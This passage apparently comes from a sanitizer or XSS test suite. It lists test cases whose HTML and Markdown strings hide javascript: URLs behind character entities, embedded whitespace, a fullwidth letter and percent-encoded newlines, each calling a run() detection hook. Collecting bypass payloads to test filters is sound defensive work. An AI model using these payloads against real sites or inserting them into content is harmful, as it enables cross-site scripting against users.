    html: `<a href="&#X6A;AVASCRIPT&#X3a;${run('uni-entities')}">hx</a><a href="&Jfr;avascript:x">fr</a><a href="javascript&#x0003A;${run('uni-entities')}">z</a><a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;${run('uni-entities')}">mix</a><a href="j&#x0a;a&#x0d;v&#x09;ascript&#x3a;${run('uni-entities')}">ws</a>`,
  },
  {
    id: 'uni-md-schemes',
    kind: 'unicode',
    html: `[fw](ｊavascript:${run('uni-md-schemes')}) [nl](java%0Ascript:${run('uni-md-schemes')}) [cm](javascript://%0A${run('uni-md-schemes')}) <javascript://%0a${run('uni-md-schemes')}>`,
  },
];
